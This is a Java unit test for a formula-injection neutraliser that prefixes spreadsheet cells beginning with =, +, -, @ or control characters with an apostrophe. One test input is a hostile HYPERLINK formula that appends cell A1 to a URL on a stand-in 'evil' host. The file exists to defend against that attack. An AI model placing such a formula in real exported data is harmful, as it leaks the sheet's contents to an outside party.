package cn.chengxin.shared.files;

import java.util.stream.Stream;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class FormulaNeutraliserTests {

    @Test
    void neutralisesOnlyFormulaStarts() {
        assertThat(FormulaNeutraliser.neutralise("411702199001011238")).isEqualTo("411702199001011238");
        assertThat(FormulaNeutraliser.neutralise("张=三")).isEqualTo("张=三");
        assertThat(FormulaNeutraliser.neutralise(null)).isEmpty();
        assertThat(Stream.of("=1", "+1", "-1", "@1", "\t1", "\r1", "＝1", "＋1", "－1", "＠1")
                .map(FormulaNeutraliser::neutralise).toList())
                .allMatch(text -> text.startsWith("'"));
        assertThat(FormulaNeutraliser.neutralise("=HYPERLINK(\"http://evil/?\"&A1,\"点击\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil/?\"&A1,\"点击\")");
    }
}
